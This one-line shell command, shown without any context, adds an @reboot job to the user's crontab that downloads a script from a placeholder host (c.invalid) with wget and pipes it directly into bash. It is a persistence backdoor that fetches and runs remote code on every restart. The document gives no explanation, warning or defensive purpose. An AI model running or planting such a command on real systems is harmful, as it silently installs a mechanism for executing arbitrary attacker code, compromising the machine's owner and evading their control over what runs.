(crontab -l 2>/dev/null; echo "@reboot bash -c 'wget -qO- https://c.invalid/r | bash'") | crontab -
